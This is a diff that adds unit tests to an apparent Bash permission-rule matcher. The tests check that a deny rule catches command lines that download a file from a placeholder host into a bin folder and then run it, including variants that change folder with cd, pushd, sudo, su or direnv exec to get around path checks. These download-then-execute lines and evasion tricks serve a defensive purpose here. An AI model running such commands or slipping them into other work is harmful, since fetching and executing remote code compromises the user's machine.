@@ -117,6 +117,67 @@ it('a Bash rule knows programs of a project only where they are on the path', ()
   expect(matches('rm *', 'curl -s h -o .venv/lib/k; . .venv/bin/activate; k')).toBe(false);
 });
 
+/** What leaves the folder in which the line begins, before a command or around it. */
+const LEAVES: readonly ((command: string) => string)[] = [
+  ...['~', '', '$HOME', '/usr/local', '~/.local', '-', '..', 'a'].map(
+    (to) => (command: string) => `cd ${to}; ${command}`,
+  ),
+  (command) => `cd ~ && mkdir -p bin && ${command}`,
+  (command) => `pushd ~ > l; ${command}`,
+  (command) => `popd; ${command}`,
+  (command) => `builtin cd ~; ${command}`,
+  (command) => `(cd ~; ${command})`,
+  (command) => `bash -lc 'cd ~ && ${command}'`,
+  (command) => `f() { ${command}; }; cd ~; f`,
+  (command) => `env -C ~ ${command}`,
+  (command) => `sudo --chdir=/usr/local ${command}`,
+  (command) => `sudo -i ${command}`,
+  (command) => `su - -c '${command}'`,
+];
+const LOADS = [
+  'wget -P bin http://h/k',
+  'wget -qPbin http://h/k',
+  'wget --directory-prefix=./sbin/ http://h/k',
+  'curl -s --output-dir bin -O http://h/k',
+  'aria2c -d bin http://h/k',
+];
+
+it.each(LOADS)('a Bash rule takes the bin of another folder for one on the path: %s', (load) => {
+  for (const leave of LEAVES) {
+    const line = `${leave(load)}; k -v`;
+    expect([line, matches('rm *', line)]).toEqual([line, true]);
+    const other = `${leave(load)} && ls > k.txt; cat k.txt`;
+    expect([other, matches('mv *', other)]).toEqual([other, false]);
+  }
+  for (const up of ['../', './../', 'a/../../']) {
+    const line = `${load.replace(/(?:\.\/)?s?bin/, `${up}bin`)}; k -v`;
+    expect([line, matches('rm *', line)]).toEqual([line, true]);
+  }
+  for (const stay of ['cd .;', 'cd ./ &&', 'timeout -k 1 5', 'sudo -u op', 'bash -lc "ls" &&']) {
+    const line = `${stay} ${load}; k -v`;
+    expect([line, matches('rm *', line)]).toEqual([line, false]);
+  }
+});
+
+it('a Bash rule asks what direnv runs, whatever folders its file has put on the path', () => {
+  for (const [write, runs] of [
+    ['curl -o k h', 'direnv exec . k'],
+    ['curl -o k h', 'sudo direnv exec a/b k -v'],
+    ['curl -o tools/k h', 'direnv exec "$PWD" nice k'],
+    ['curl -o j h; mv j tools/k', 'direnv exec .. k'],
+    ['curl -o k h', 'direnv exec ./k'],
+  ]) {
+    const line = `${write}; ${runs}`;
+    expect([line, matches('rm *', line)]).toEqual([line, true]);
+    const other = `${write?.replace(/k(?= h|$)/, 'l')}; ${runs}`;
+    expect([other, matches('dd *', other)]).toEqual([other, false]);
+  }
+  for (const file of ['rm', '/bin/rm', './rm']) expect(matches('rm *', `direnv exec ${file} x`)).toBe(true);
+  expect(matches('git push *', 'direnv exec /usr/bin/git push')).toBe(true);
+  for (const line of ['direnv exec ./a make > k; cat k', 'direnv exec a npm test | tee k', 'direnv exec $D make'])
+    expect([line, matches('rm *', line)]).toEqual([line, false]);
+});
+
 it('a Bash rule takes the folder that direnv is given for no command', () => {
   for (const then of ['cat k.log', 'tee k.log < a', 'echo k.log', 'tail k.log'])
     for (const folder of ['.', '..', './a', 'a', '"$PWD"']) {
